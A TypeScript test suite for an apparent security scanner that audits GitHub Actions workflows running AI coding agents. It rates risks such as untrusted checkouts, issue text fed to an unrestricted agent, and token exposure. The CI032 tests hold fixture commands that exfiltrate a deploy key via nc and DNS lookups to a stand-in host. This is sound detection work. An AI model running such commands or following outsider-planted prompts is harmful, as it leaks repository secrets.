import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { agent, checkout, findings, HEAD, KEY, marks, PULL_REQUEST_TARGET, pipeline, WORKFLOW } from './audited.ts';

const one = (text: string) => ({ [WORKFLOW]: text });
const severities = (text: string, rule: string) => findings(one(text), rule).map(({ severity }) => severity);
const COMMENT = '  issue_comment:\n    types: [created]';
const REVIEW = '  pull_request_review:\n    types: [submitted]';
const RUN = '  workflow_run:\n    workflows: [CI]\n    types: [completed]';
const ISSUES = '  issues:\n    types: [opened]';
const action = (...inputs: readonly string[]) =>
  `      - uses: anthropics/claude-code-action@v1\n        with:\n${[KEY.replace('ANTHROPIC_API_KEY', 'anthropic_api_key'), ...inputs].map((input) => `          ${input}\n`).join('')}`;

describe('a tree that only people who may push can write', () => {
  const onHead = (ref: string, on: string, job = '') =>
    pipeline(`${checkout(ref)}${agent('claude -p "Fix it" --allowedTools "Bash(npm test)"')}`, on, job);

  it('is that of a branch name alone, which a fork cannot fill', () => {
    const byName = onHead('${{ github.event.workflow_run.head_branch }}', RUN);
    assert.deepEqual(severities(byName, 'EXE001'), ['medium']);
    assert.deepEqual(severities(byName, 'PATH05'), []);
    const byCommit = onHead('${{ github.event.workflow_run.head_sha }}', RUN);
    assert.deepEqual(severities(byCommit, 'EXE001'), ['critical']);
    assert.equal(severities(byCommit, 'PATH05').length, 1);
  });

  it('is not that of a branch name beside the repository of the fork', () => {
    const fork = `${checkout('${{ github.head_ref }}')}          repository: \${{ github.event.pull_request.head.repo.full_name }}\n`;
    const text = pipeline(`${fork}${agent('claude -p "Fix it"')}`, PULL_REQUEST_TARGET);
    assert.deepEqual(severities(text, 'EXE001'), ['critical']);
  });

  it('is that of a run which asks for the same repository', () => {
    const own = '    if: github.event.workflow_run.head_repository.full_name == github.repository\n';
    assert.deepEqual(severities(onHead('${{ github.event.workflow_run.head_sha }}', RUN, own), 'EXE001'), ['medium']);
  });

  it('is that of a review, whose run has no secrets for forks', () => {
    assert.deepEqual(severities(onHead(HEAD, REVIEW), 'EXE001'), ['medium']);
    assert.match(findings(one(onHead(HEAD, REVIEW)), 'EXE001')[0]?.detail ?? '', /^Whoever may push a branch/);
    assert.deepEqual(severities(onHead(HEAD, PULL_REQUEST_TARGET), 'EXE001'), ['critical']);
  });

  it('is not there at all where the action finds no checkout to fetch into', () => {
    const tag = (steps: string) => pipeline(`${steps}${action()}`.replace('@v1', '@beta'), COMMENT);
    assert.deepEqual(severities(tag(''), 'PATH04'), []);
    assert.equal(severities(tag(checkout()), 'PATH04').length, 1);
  });
});

describe('gates, one trigger at a time', () => {
  const GATED =
    "    if: github.event_name == 'issues' || (contains(github.event.comment.body, '/agent') && github.event.comment.author_association == 'MEMBER')\n";
  const text = pipeline(
    `${agent('claude -p "$BODY" --dangerously-skip-permissions', '          BODY: ${{ github.event.issue.body }}\n')}`,
    `${COMMENT}\n${ISSUES}`,
    GATED,
  );

  it('the open event is the one that is reported, without the check of the other', () => {
    const [open] = findings(one(text), 'GAT001');
    assert.match(open?.message ?? '', /cause issues starts/);
    assert.match(open?.detail ?? '', /^Nothing asks who it is/);
    const [path] = findings(one(text), 'PATH01');
    assert.match(path?.flow[0]?.message ?? '', /with issues$/);
  });

  it('a question about other people in a script is no gate', () => {
    const script = (end: string) =>
      `      - run: |\n          if gh api "orgs/acme/members/$WHO" --silent; then\n            echo member\n          else\n            ${end}\n          fi\n`;
    const steps = (end: string) =>
      pipeline(`${script(end)}${agent('claude -p "Label the issue" --tools Read')}`, ISSUES);
    assert.equal(severities(steps('echo guest'), 'GAT001').length, 1);
    assert.equal(severities(steps('exit 1'), 'GAT001').length, 0);
  });

  it('the clock does not wake an agent that waits for a mention', () => {
    const on = `${COMMENT}\n  schedule:\n    - cron: '0 0 * * 0'`;
    const flow = (inputs: readonly string[]) =>
      findings(one(pipeline(`${checkout()}${action(...inputs)}`, on)), 'PATH01')[0]?.flow[0]?.message;
    assert.doesNotMatch(flow([]) ?? '', /the clock/);
    assert.match(
      flow([
        'prompt: Read the issues with `gh issue list`',
        `claude_args: '--allowedTools "Bash(gh issue list:*),Bash(curl:*)"'`,
      ]) ?? '',
      /the clock/,
    );
  });
});

describe('rules that match nothing give nothing', () => {
  const tools = (list: string) =>
    pipeline(
      `${checkout()}${action('prompt: Mend it', `claude_args: '--allowedTools "${list}"'`)}`.replace(
        'persist-credentials: false',
        'fetch-depth: 1',
      ),
      ISSUES,
    );

  it('a list inside one pair of parentheses is no shell', () => {
    assert.deepEqual(severities(tools('Bash(make:*,git:*)'), 'EXE018'), []);
    assert.equal(severities(tools('Bash(make:*),Bash(git:*)'), 'EXE018').length, 1);
    assert.equal(severities(tools('Bash(make:*,git:*)'), 'AGT010').length, 1);
    assert.equal(severities(tools('Bash(make:*),Bash(git:*)'), 'AGT006').length, 1);
  });
});

describe('severities that ask who is behind it', () => {
  it('an identity token is high only where a program certainly gets it', () => {
    const login = `      - uses: aws-actions/configure-aws-credentials@ececac1a45f3b08a01d2dd070d28d111c5fe6722 # v4.1.0\n        with:\n          role-to-assume: arn:aws:iam::1:role/x\n          aws-region: eu-central-1\n`;
    const text = (command: string) =>
      pipeline(`${agent(command)}${login}`).replace('contents: read', 'contents: read\n  id-token: write');
    assert.deepEqual(severities(text('claude -p "Mend it" --dangerously-skip-permissions'), 'CRD007'), ['high']);
    assert.deepEqual(severities(text('claude -p "Mend it" --allowedTools "Bash(npm test)"'), 'CRD007'), ['medium']);
  });

  it('a known hole is critical only where outsiders write what the agent reads', () => {
    const text = (on: string, prompt: string) =>
      pipeline(`      - run: npm i -g @anthropic-ai/claude-code@2.1.60\n${agent(`claude -p "${prompt}"`)}`, on);
    assert.deepEqual(severities(text(ISSUES, '${{ github.event.issue.body }}'), 'SUP009'), ['critical']);
    assert.deepEqual(severities(text('  workflow_dispatch:', 'Review'), 'SUP009'), ['high']);
  });

  it('an input that never arrives is said to be what it is', () => {
    const details = (input: string) =>
      findings(one(pipeline(action('prompt: Review', input))), 'AGT013').map(
        ({ severity, detail }) => `${severity} ${detail}`,
      );
    assert.match(details('allowed_tools: Read')[0] ?? '', /^high What it should have limited/);
    assert.match(details('github-token: x')[0] ?? '', /^medium The agent works with another credential/);
    assert.match(details('direct_prompt: Review')[0] ?? '', /^high The agent never sees these orders/);
  });

  it('the job token writes no workflow files, so only they are no loss', () => {
    const text = pipeline(
      `${checkout()}${agent('claude -p "Mend it" --dangerously-skip-permissions', '          GH_TOKEN: ${{ github.token }}\n')}`,
      ISSUES,
    ).replace('contents: read', 'contents: write');
    assert.deepEqual(severities(text, 'EXE018'), ['low']);
    const more = { ...one(text), '.claude/settings.json': '{}' };
    assert.deepEqual(
      findings(more, 'EXE018').map(({ severity }) => severity),
      ['high'],
    );
  });

  it('what a server answers is not made of the key that asked', () => {
    const text = (value: string) =>
      pipeline(
        `      - run: |\n          PART=$(${value})\n          echo "$PART"\n        env:\n          TOKEN: \${{ secrets.TOKEN }}\n${agent('claude -p "Review"')}`,
      );
    assert.deepEqual(severities(text('echo "$TOKEN" | cut -c1-8'), 'CI022'), ['medium']);
    assert.deepEqual(severities(text('curl -H "X-Key: $TOKEN" https://log.example.test'), 'CI022'), ['low']);
  });
});

describe('words', () => {
  it('a checkout of version 6 says where the token lies', () => {
    const text = (version: string) =>
      pipeline(
        `      - uses: actions/checkout@${version}\n${agent('claude -p "Mend it" --dangerously-skip-permissions')}`,
      );
    assert.match(findings(one(text('v4')), 'CRD006')[0]?.message ?? '', /in \.git\/config, in reach/);
    assert.match(findings(one(text('v6')), 'CRD006')[0]?.message ?? '', /in a file that \.git\/config names/);
  });

  it('a minted token is named once, by the step that made it', () => {
    const mint = `      - uses: actions/create-github-app-token@67018539274d69449ef7c02e8e71183d1719ab42 # v2.1.4\n        id: mint\n        with:\n          app-id: 1\n          private-key: \${{ secrets.APP_KEY }}\n`;
    const text = pipeline(
      `${mint}${agent('claude -p "${{ github.event.issue.body }}" --dangerously-skip-permissions', '          GH_TOKEN: ${{ steps.mint.outputs.token }}\n          OTHER: ${{ steps.mint.outputs.token }}\n')}`,
      ISSUES,
    );
    assert.match(
      findings(one(text), 'PATH01')[0]?.message ?? '',
      /send the app token of step mint, ANTHROPIC_API_KEY away$/,
    );
  });

  it('one line that says the same thing twice is one finding', () => {
    const text = pipeline(
      `      - run: npm i -g @anthropic-ai/claude-code || npm i -g @anthropic-ai/claude-code\n${agent('claude -p "Review"')}`,
    );
    assert.equal(marks(one(text), 'SUP003').length, 1);
  });
});

describe('one step away', () => {
  it('a build of the head that only a condition keeps from strangers is low, and silent without their event', () => {
    const text = (on: string) =>
      pipeline(
        `${checkout('${{ github.head_ref }}')}      - run: npm ci\n`,
        on,
        "    if: github.event_name == 'push'\n",
      );
    const [found] = findings(one(text(`  push:\n${PULL_REQUEST_TARGET}`)), 'CI005');
    assert.equal(found?.severity, 'low');
    assert.match(found?.message ?? '', /as soon as the condition lets pull_request_target in$/);
    assert.deepEqual(severities(text('  push:'), 'CI005'), []);
  });

  it('a tag like those that were moved once is low, a version behind the fix is silent', () => {
    const text = (version: string) =>
      pipeline(`      - uses: tj-actions/changed-files@${version}\n${agent('claude -p "Review"')}`);
    const [moving] = findings(one(text('v46')), 'CI017');
    assert.equal(moving?.severity, 'low');
    assert.match(moving?.message ?? '', /a tag like those that were moved once/);
    assert.deepEqual(severities(text('v46.0.5'), 'CI017'), []);
    assert.deepEqual(severities(text('v44'), 'CI017'), ['high']);
  });
});

describe('what the owner of the repository chose', () => {
  it('is no text of an outsider: its name beside a title', () => {
    const text = (value: string) =>
      pipeline(`      - run: echo "\${{ ${value} }}"\n${agent('claude -p "Review"')}`, PULL_REQUEST_TARGET);
    assert.deepEqual(severities(text('github.event.repository.name'), 'CI001'), []);
    assert.deepEqual(severities(text('github.event.pull_request.title'), 'CI001'), ['critical']);
  });
});

describe('CI032: secrets that leave by a way that is for nothing else', () => {
  const found = (command: string) =>
    severities(
      pipeline(
        `      - run: ${command}\n        env:\n          KEY: \${{ secrets.DEPLOY_KEY }}\n${agent('claude -p "Review"')}`,
      ),
      'CI032',
    );

  it('in a name that is looked up, by variable or as written', () => {
    assert.deepEqual(found('dig "$KEY.collect.example.test"'), ['high']);
    assert.deepEqual(found('nslookup ${{ secrets.DEPLOY_KEY }}.collect.example.test'), ['high']);
    assert.deepEqual(found('dig api.example.test'), []);
  });

  it('through a bare connection, but not to a service that it opens', () => {
    assert.deepEqual(found('echo "$KEY" | nc collect.example.test 443'), ['high']);
    assert.deepEqual(found('nc -z db.example.test 5432'), []);
    assert.deepEqual(found('curl -H "X-Key: $KEY" https://api.example.test'), []);
  });
});

describe('an agent inside `sallyport run`', () => {
  it('has its tools limited by the policy', () => {
    const text = (command: string) => pipeline(agent(command));
    assert.deepEqual(severities(text('sallyport run -- claude -p "Review"'), 'AGT003'), []);
    assert.deepEqual(severities(text('claude -p "Review" --dangerously-skip-permissions'), 'AGT003'), ['medium']);
  });

  it('obeys the instructions of the base and finds no token in `.git`, unlike in other sandboxes', () => {
    const text = (sandbox: string) =>
      pipeline(
        `${checkout(HEAD).replace(/ *persist-credentials: false\n/, '')}${agent(`${sandbox} -- claude -p "Review"`)}`,
        PULL_REQUEST_TARGET,
      );
    for (const rule of ['INP008', 'CRD006']) {
      assert.deepEqual(severities(text('sallyport run'), rule), [], rule);
      assert.equal(severities(text('srt'), rule).length, 1, rule);
    }
  });
});
